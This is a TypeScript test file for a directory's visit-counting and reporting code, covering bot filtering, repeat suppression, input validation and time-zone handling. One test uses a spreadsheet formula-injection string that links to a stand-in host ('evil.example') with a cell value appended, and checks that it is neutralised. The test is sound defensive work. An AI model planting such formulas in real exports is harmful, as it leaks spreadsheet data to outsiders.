import { describe, expect, it } from 'vitest';
import { isBotAgent, REPEAT_WINDOW_MS, RepeatFilter } from './counting.server.ts';
import {
	addMonths,
	chamberDay,
	change,
	countEvents,
	DAILY_COUNTS_PER_ADDRESS,
	monthOf,
	monthRange,
	normaliseSearchWords,
	sortMembers,
	statBatchSchema,
	type MemberTotals,
	type StatEvent,
} from './reports.ts';

const A = '001ca25e-b3bc-a245-7ff2-16c7c3f2e9e0';
const B = '7d4f0e52-9a61-4c1b-8e0f-2b3c4d5e6f70';

const CHROME =
	'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
const SAFARI_IPHONE =
	'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1';

describe('bots', () => {
	it.each([
		['Googlebot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
		['Bingbot', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)'],
		['a headless browser', CHROME.replace('Chrome/', 'HeadlessChrome/')],
		['a link previewer', 'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)'],
		['an HTTP library', 'python-requests/2.32.3'],
		['curl', 'curl/8.5.0'],
		['no user agent', ''],
	])('%s is not counted', (_name, agent) => {
		expect(isBotAgent(agent)).toBe(true);
	});

	it('a missing user agent is not counted', () => {
		expect(isBotAgent(null)).toBe(true);
	});

	it.each([
		['Chrome', CHROME],
		['Safari on an iPhone', SAFARI_IPHONE],
	])('%s is counted', (_name, agent) => {
		expect(isBotAgent(agent)).toBe(false);
	});
});

describe('repeats from the same address', () => {
	const view = (business = A, words?: string): StatEvent => ({
		kind: 'view',
		business,
		...(words ? { words } : {}),
	});

	it('count once within 30 minutes, and again after', () => {
		let now = Date.UTC(2026, 10, 3, 9, 0);
		const filter = new RepeatFilter(() => now);
		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(1);
		now += REPEAT_WINDOW_MS - 1;
		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(0);
		now += 1;
		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(1);
	});

	it('an ignored repeat does not stretch the window', () => {
		let now = Date.UTC(2026, 10, 3, 9, 0);
		const filter = new RepeatFilter(() => now);
		filter.admit('203.0.113.5', [view()]);
		now += 20 * 60_000;
		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(0);
		now += 10 * 60_000;
		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(1);
	});

	it('are told apart by address, business and kind, not by search words', () => {
		const filter = new RepeatFilter(() => Date.UTC(2026, 10, 3, 9, 0));
		expect(
			filter.admit('203.0.113.5', [
				view(A, 'roofers'),
				view(),
				view(A, 'roofers near me'),
				view(B),
				{ kind: 'website', business: A },
				{ kind: 'phone', business: A },
			]),
		).toEqual([
			view(A, 'roofers'),
			view(B),
			{ kind: 'website', business: A },
			{ kind: 'phone', business: A },
		]);
		expect(filter.admit('203.0.113.6', [view()])).toHaveLength(1);
	});

	it('count at most 500 events of one address a day, from midnight UTC', () => {
		let now = Date.UTC(2026, 10, 3, 9, 0);
		const filter = new RepeatFilter(() => now);
		const ids = Array.from(
			{ length: DAILY_COUNTS_PER_ADDRESS + 1 },
			(_, i) => `00000000-0000-0000-0000-${String(i).padStart(12, '0')}`,
		);
		const shown = (business: string): StatEvent => ({ kind: 'shown', business });
		let counted = 0;
		for (let i = 0; i < ids.length; i += 50) {
			counted += filter.admit('203.0.113.5', ids.slice(i, i + 50).map(shown)).length;
		}
		expect(counted).toBe(DAILY_COUNTS_PER_ADDRESS);
		// Hours later, past every repeat window: still nothing from that address today.
		now += 6 * 3_600_000;
		expect(filter.admit('203.0.113.5', [view(B)])).toEqual([]);
		expect(filter.admit('203.0.113.6', [view(B)])).toEqual([view(B)]);
		now = Date.UTC(2026, 10, 4, 0, 1);
		expect(filter.admit('203.0.113.5', [view(B)])).toEqual([view(B)]);
	});

	it('are forgotten with the day: a new salt and no hashes at midnight UTC', () => {
		let now = Date.UTC(2026, 10, 3, 23, 50);
		const filter = new RepeatFilter(() => now);
		filter.admit('203.0.113.5', [view(), view(B)]);
		expect(filter.size).toBe(2);
		now = Date.UTC(2026, 10, 4, 0, 5);
		expect(filter.admit('203.0.113.5', [view()])).toHaveLength(1);
		expect(filter.size).toBe(1);
	});

	it('never hold an address as it is', () => {
		const filter = new RepeatFilter(() => Date.UTC(2026, 10, 3, 9, 0));
		filter.admit('203.0.113.5', [view()]);
		const maps = filter as unknown as Record<'seen' | 'counted', Map<string, number>>;
		const held = JSON.stringify([...maps.seen.keys(), ...maps.counted.keys()]);
		expect(maps.counted.size).toBe(1);
		expect(held).not.toContain('203.0.113.5');
		expect(held).not.toContain(A);
	});
});

describe('kinds and batches', () => {
	it('take the known kinds and business ids, at most 50 events', () => {
		const events = [
			{ kind: 'shown', business: A },
			{ kind: 'view', business: A, words: 'Roofers' },
			{ kind: 'social_facebook', business: B },
		];
		expect(statBatchSchema.parse({ events })).toEqual({ events });
		expect(() =>
			statBatchSchema.parse({ events: Array(51).fill({ kind: 'shown', business: A }) }),
		).toThrow(/at most 50 events/);
		expect(() => statBatchSchema.parse({ events: [] })).toThrow(/must not be empty/);
	});

	it.each([
		[{ kind: 'search', business: A }, /kind is not a known kind/],
		[{ kind: 'click', business: A }, /kind is not a known kind/],
		[{ kind: 'view', business: 'lighthouse-travel' }, /business must be a business id/],
		[{ kind: 'view', business: A, words: 'x'.repeat(201) }, /at most 200/],
	])('refuse %j', (event, message) => {
		expect(() => statBatchSchema.parse({ events: [event] })).toThrow(message);
	});

	it('sum a batch per business and kind; a view from a search also counts its words', () => {
		expect(
			countEvents([
				{ kind: 'shown', business: A },
				{ kind: 'shown', business: B },
				{ kind: 'shown', business: A },
				{ kind: 'view', business: A, words: '  Roofers   near ME ' },
				{ kind: 'website', business: A },
				{ kind: 'website', business: A, words: 'ignored on actions' },
			]),
		).toEqual([
			{ business: A, kind: 'shown', count: 2 },
			{ business: B, kind: 'shown', count: 1 },
			{ business: A, kind: 'view', count: 1 },
			{ business: A, kind: 'search', words: 'roofers near me', count: 1 },
			{ business: A, kind: 'website', count: 2 },
		]);
	});

	it('keep search words lower case, one space apart, at most 10 words and 100 characters', () => {
		expect(normaliseSearchWords('\tPlumbers  IN\nCedar Valley ')).toBe('plumbers in cedar valley');
		expect(normaliseSearchWords(`${'a'.repeat(99)} b`)).toBe('a'.repeat(99));
		expect(normaliseSearchWords('   ')).toBe('');
		expect(normaliseSearchWords('one two three four five six seven eight nine ten eleven')).toBe(
			'one two three four five six seven eight nine ten',
		);
		// Code points, as the database counts them: a cut never splits a character in two.
		expect(Array.from(normaliseSearchWords('𝒜'.repeat(101)))).toEqual(Array(100).fill('𝒜'));
		expect(normaliseSearchWords(`${'é'.repeat(150)}`)).toBe('é'.repeat(100));
	});

	it('keep the words of a search and none of its punctuation', () => {
		expect(normaliseSearchWords('=HYPERLINK("http://evil.example/?"&A1,"Open report")')).toBe(
			'hyperlink http evil example a1 open report',
		);
		expect(normaliseSearchWords("Joe's Bar & Grill")).toBe("joe's bar grill");
		expect(normaliseSearchWords('Café  Zürich — 24/7')).toBe('café zürich 24 7');
		expect(normaliseSearchWords('-1+1 @home')).toBe('1 1 home');
		expect(normaliseSearchWords('!!! ...')).toBe('');
	});
});

describe('periods and reports', () => {
	it("count days and months in the chamber's time zone, not UTC", () => {
		// 11:30 pm on 31 October in Chicago is already 1 November in UTC.
		const lateEvening = new Date('2026-11-01T04:30:00Z');
		expect(chamberDay(lateEvening, 'America/Chicago')).toBe('2026-10-31');
		expect(monthOf(lateEvening, 'America/Chicago')).toBe('2026-10');
		// Half an hour later in Chicago: the new day and month.
		const midnight = new Date('2026-11-01T05:00:00Z');
		expect(chamberDay(new Date(midnight.getTime() - 1), 'America/Chicago')).toBe('2026-10-31');
		expect(chamberDay(midnight, 'America/Chicago')).toBe('2026-11-01');
		// Guam is ahead of UTC: its day starts at 14:00 UTC the day before.
		expect(chamberDay(new Date('2026-11-24T14:00:00Z'), 'Pacific/Guam')).toBe('2026-11-25');
		expect(chamberDay(new Date('2026-11-24T13:59:59Z'), 'Pacific/Guam')).toBe('2026-11-24');
		// Daylight saving ends on 1 November 2026 in Chicago (UTC-5 before, UTC-6 after).
		expect(chamberDay(new Date('2026-11-02T05:59:00Z'), 'America/Chicago')).toBe('2026-11-01');
		expect(chamberDay(new Date('2026-11-02T06:00:00Z'), 'America/Chicago')).toBe('2026-11-02');
	});

	it('months run from their first to their last day', () => {
		expect(monthRange('2026-02')).toEqual({ from: '2026-02-01', to: '2026-02-28' });
		expect(monthRange('2028-02')).toEqual({ from: '2028-02-01', to: '2028-02-29' });
		expect(addMonths('2026-01', -1)).toBe('2025-12');
		expect(addMonths('2026-11', 2)).toBe('2027-01');
	});

	it('sort the members table by any column, ties by name', () => {
		const rows: MemberTotals[] = [
			{ businessId: '1', name: 'beta', shown: 5, views: 1, actions: 0 },
			{ businessId: '2', name: 'Alpha', shown: 5, views: 3, actions: 2 },
			{ businessId: '3', name: 'Gamma', shown: 9, views: 0, actions: 1 },
		];
		expect(sortMembers(rows, 'name', 'ascending').map((r) => r.name)).toEqual([
			'Alpha',
			'beta',
			'Gamma',
		]);
		expect(sortMembers(rows, 'shown', 'descending').map((r) => r.name)).toEqual([
			'Gamma',
			'Alpha',
			'beta',
		]);
		expect(sortMembers(rows, 'views', 'ascending').map((r) => r.name)).toEqual([
			'Gamma',
			'beta',
			'Alpha',
		]);
	});

	it('say the change from the month before', () => {
		expect(change(120, 100)).toBe('+20%');
		expect(change(75, 100)).toBe('−25%');
		expect(change(5, 0)).toBe('new');
		expect(change(0, 0)).toBe('=');
		expect(change(1001, 1000)).toBe('+<1%');
	});
});

describe('reading a report', () => {
	it('takes the kinds the database answers, any subset, numbers as text too', async () => {
		const { businessReportSchema } = await import('./reports.ts');
		expect(
			businessReportSchema.parse({
				kinds: { view: '12', website: 3 },
				searches: [{ words: 'boats', count: '2' }],
				months: [{ month: '2026-10', shown: 1, views: '2', actions: 0 }],
			}),
		).toEqual({
			kinds: { view: 12, website: 3 },
			searches: [{ words: 'boats', count: 2 }],
			months: [{ month: '2026-10', shown: 1, views: 2, actions: 0 }],
		});
		expect(
			businessReportSchema.safeParse({ kinds: { click: 1 }, searches: [], months: [] }).success,
		).toBe(false);
	});
});
